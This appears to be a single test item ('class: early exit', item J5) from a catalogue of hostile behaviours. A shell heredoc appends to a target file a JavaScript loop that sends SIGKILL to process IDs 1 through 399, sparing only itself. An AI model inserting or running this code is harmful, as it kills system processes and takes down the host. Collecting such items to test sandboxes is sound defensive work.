# class: early exit
# item: J5
# Every process of the box.
cat >> "$ETUDE_PATH" <<'END'
for (let pid = 1; pid < 400; pid++) if (pid !== process.pid) try { process.kill(pid, 9) } catch {}
END
